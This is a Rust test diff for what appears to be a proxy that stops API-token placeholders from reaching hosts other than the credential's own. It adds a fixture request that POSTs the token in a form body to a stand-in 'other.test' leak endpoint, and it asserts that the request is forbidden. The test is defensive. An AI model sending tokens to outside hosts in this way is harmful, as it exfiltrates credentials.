@@ -621,6 +621,8 @@ r api -H "Authorization: Bearer $API_TOKEN_PLACEHOLDER" https://api.test/v1/with
 r control https://other.test/v1/control
 r leak -H "Authorization: Bearer $API_TOKEN_PLACEHOLDER" https://other.test/v1/leak
 r leak-header -H "X-Token: $API_TOKEN_PLACEHOLDER" https://other.test/v1/leak-header
+r leak-body -X POST --data "token=$API_TOKEN_PLACEHOLDER" https://other.test/v1/leak-body
+r api-body -X POST --data "token=$API_TOKEN_PLACEHOLDER" https://api.test/v1/body
 echo "--- env"
 env
 "#
@@ -656,12 +658,19 @@ env
     let replies = replies(&out.stdout);
     assert_eq!(reply(&replies, "api", &out).code, 200, "{}", ctx());
     assert_eq!(reply(&replies, "control", &out).code, 200, "{}", ctx());
-    for name in ["leak", "leak-header"] {
+    // Toward the credential's own host a body may carry the placeholder (it is not swapped).
+    assert_eq!(reply(&replies, "api-body", &out).code, 200, "{}", ctx());
+    for name in ["leak", "leak-header", "leak-body"] {
         let r = reply(&replies, name, &out);
         assert!(r.forbidden(), "{name}: {r:?}\n{}", ctx());
     }
     let requests = api.requests();
-    assert_eq!(api.paths(), ["/v1/with-placeholder"], "{}", ctx());
+    assert_eq!(
+        api.paths(),
+        ["/v1/with-placeholder", "/v1/body"],
+        "{}",
+        ctx()
+    );
     assert_eq!(
         header(&requests[0], "authorization"),
         [format!("Bearer {SECRET}").as_str()],
@@ -676,7 +685,7 @@ env
         ctx()
     );
     assert_eq!(other.paths(), ["/v1/control"], "{}", ctx());
-    for path in ["/v1/leak", "/v1/leak-header"] {
+    for path in ["/v1/leak", "/v1/leak-header", "/v1/leak-body"] {
         assert_proxy_record(
             &out,
             path,
